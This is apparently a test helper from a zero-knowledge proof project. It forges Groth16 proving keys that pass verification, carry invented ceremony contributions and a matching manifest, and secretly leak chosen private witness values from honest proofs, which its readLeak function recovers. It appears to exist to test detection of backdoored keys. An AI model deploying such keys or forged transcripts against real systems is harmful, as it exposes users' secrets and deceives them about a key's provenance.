/**
 * Proving keys that an attacker makes without any ceremony: they verify, they call themselves keys of one,
 * and they read chosen wires out of honest proofs. With A zero but for the public wires and the chosen ones,
 * and δ₁ = β₁ = 0, π_a is α₁ plus the chosen value times the generator.
 */
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { bn254 } from "@noble/curves/bn254.js";
import { FIELD_ORDER } from "../../../src/field/bn254.ts";
import { inverseOf } from "../../../src/field/modular-power.ts";
import type { CompiledCircuit } from "../../../src/proof/circuit/compile-circuit.ts";
import { domainPowerOf } from "../../../src/proof/keys/evaluate-qap.ts";
import { readKeyContributions, transcriptOf } from "../../../src/proof/keys/key-contributions.ts";
import {
	type CeremonyTranscript,
	KEY_FILE,
	type KeyManifest,
	writeManifest,
} from "../../../src/proof/keys/key-manifest.ts";
import { parseVerificationKey } from "../../../src/proof/keys/verification-key.ts";
import type { Groth16Proof } from "../../../src/proof/provers/groth16.ts";
import { readR1csHeader } from "../../../src/proof/snarkjs/r1cs-file.ts";
import { withSnarkjs } from "../../../src/proof/snarkjs/with-snarkjs.ts";
import {
	BASE_FIELD_ORDER,
	ZKEY_SECTION,
	zkeyHeader,
	zkeyLayout,
} from "../../../src/proof/snarkjs/zkey-layout.ts";

const { G1, G2 } = bn254;
type G1Point = InstanceType<typeof G1.Point>;
type G2Point = InstanceType<typeof G2.Point>;

const ALPHA = 1234567n;
const BETA = 7654321n;
const GAMMA = 333n;
const DELTA = 99991n;

export type LeakingKeyRequest = {
	readonly circuit: CompiledCircuit;
	readonly folder: string;
	/** Witness index → how often it counts in what is read. */
	readonly wires: ReadonlyMap<number, bigint>;
	/** `hides`: with an honest header, so that only hash or transcript can tell it from a good key. */
	readonly header?: "shows" | "hides";
};

/** Writes key and manifest as `ceremony finish` would. */
export async function writeLeakingKey(request: LeakingKeyRequest): Promise<KeyManifest> {
	const { circuit, folder, header = "shows" } = request;
	await mkdir(folder, { recursive: true });
	await writeFile(join(folder, KEY_FILE), await keyBytes(request, header === "shows"));
	return writeMatchingManifest(folder, circuit);
}

/** The manifest that a key's maker would send with it: everything in it is true of the key but the ceremony. */
export async function writeMatchingManifest(
	folder: string,
	circuit: CompiledCircuit,
	powers: CeremonyTranscript["powersOfTau"] = { source: "hermez", power: 17, blake2b512: "ab".repeat(64) },
): Promise<KeyManifest> {
	const zkeyPath = join(folder, KEY_FILE);
	const transcript = transcriptOf(await readKeyContributions(zkeyPath), powers);
	const exported = await withSnarkjs(({ zKey }) => zKey.exportVerificationKey(zkeyPath));
	const verificationKey = parseVerificationKey(exported);
	return writeManifest({ folder, circuit, verificationKey, origin: { kind: "ceremony", transcript } });
}

/**
 * What anybody reads from a proof under such a key: which of the candidates it was made with.
 *
 * @param publicSum 1 and all public signals
 */
export function readLeak(
	proof: Groth16Proof,
	publicSum: bigint,
	candidates: Iterable<bigint>,
): bigint | undefined {
	const [x, y] = proof.pi_a.map(BigInt) as [bigint, bigint];
	const shown = G1.Point.fromAffine({ x, y }).subtract(multiple1(ALPHA + publicSum));
	for (const candidate of candidates) if (multiple1(candidate).equals(shown)) return candidate;
	return undefined;
}

/** A key's own word for its contributions, with points that are valid and belong to no chain. */
export function inventedContributions(): Buffer {
	const points = Buffer.concat([g1(G1.Point.BASE), g1(G1.Point.BASE), g1(G1.Point.BASE), g2(G2.Point.BASE)]);
	const contribution = (type: number, parameters: Buffer) =>
		Buffer.concat([points, Buffer.alloc(64, 7), u32(type), u32(parameters.length), parameters]);
	const named = (name: string) => Buffer.concat([Buffer.from([1, name.length]), Buffer.from(name)]);
	const beacon = Buffer.concat([named("a block"), Buffer.from([2, 10, 3, 32]), Buffer.alloc(32, 0xab)]);
	const people = [contribution(0, named("Somebody Famous")), contribution(1, beacon)];
	return Buffer.concat([Buffer.alloc(64, 9), u32(people.length), ...people]);
}

async function keyBytes({ circuit, wires }: LeakingKeyRequest, shows: boolean): Promise<Buffer> {
	const r1cs = await readR1csHeader(circuit.r1csPath);
	const { wireCount, publicCount } = r1cs;
	const sizes = { wireCount, publicCount, domainSize: 2 ** domainPowerOf(r1cs), coefficientBytes: 4 };
	const { fileBytes, offsets, fixedPieces } = zkeyLayout(sizes);
	const file = Buffer.alloc(fileBytes);
	for (const { offset, bytes } of fixedPieces) file.set(bytes, offset);
	const at = (section: keyof typeof ZKEY_SECTION) => offsets.get(ZKEY_SECTION[section]) as number;
	file.set(
		zkeyHeader(sizes, {
			alpha1: g1(multiple1(ALPHA)),
			beta1: shows ? Buffer.alloc(64) : g1(multiple1(BETA)),
			beta2: g2(G2.Point.BASE.multiply(BETA)),
			gamma2: g2(G2.Point.BASE.multiply(GAMMA)),
			delta1: shows ? Buffer.alloc(64) : g1(multiple1(DELTA)),
			delta2: g2(G2.Point.BASE.multiply(DELTA)),
		}),
		at("header"),
	);
	// π_b is β₂ + s·δ₂, so what A adds comes back β times: publicly through IC, privately through C.
	for (let wire = 0; wire <= publicCount; wire++) {
		file.set(g1(G1.Point.BASE), at("a") + 64 * wire);
		file.set(g1(multiple1(BETA * inverseOf(GAMMA, FIELD_ORDER))), at("publicPoints") + 64 * wire);
	}
	for (const [wire, weight] of wires) {
		file.set(g1(multiple1(weight)), at("a") + 64 * wire);
		const c = g1(multiple1(weight * BETA * inverseOf(DELTA, FIELD_ORDER)));
		file.set(c, at("privatePoints") + 64 * (wire - publicCount - 1));
	}
	return withContributions(file, at("contributions"));
}

/** The last section may have any length. */
function withContributions(file: Buffer, at: number): Buffer {
	const contributions = inventedContributions();
	file.writeBigUInt64LE(BigInt(contributions.length), at - 8);
	return Buffer.concat([file.subarray(0, at), contributions]);
}

function multiple1(scalar: bigint): G1Point {
	return G1.Point.BASE.multiplyUnsafe(((scalar % FIELD_ORDER) + FIELD_ORDER) % FIELD_ORDER);
}

export function g1(point: G1Point): Buffer {
	const { x, y } = point.toAffine();
	return Buffer.concat([x, y].map(coordinate));
}

function g2(point: G2Point): Buffer {
	const { x, y } = point.toAffine();
	return Buffer.concat([x.c0, x.c1, y.c0, y.c1].map(coordinate));
}

/** As key files hold it: times 2^256, little endian. */
export function coordinate(value: bigint): Buffer {
	const text = ((value << 256n) % BASE_FIELD_ORDER).toString(16).padStart(64, "0");
	return Buffer.from(text, "hex").reverse();
}

function u32(value: number): Buffer {
	const bytes = Buffer.alloc(4);
	bytes.writeUInt32LE(value);
	return bytes;
}
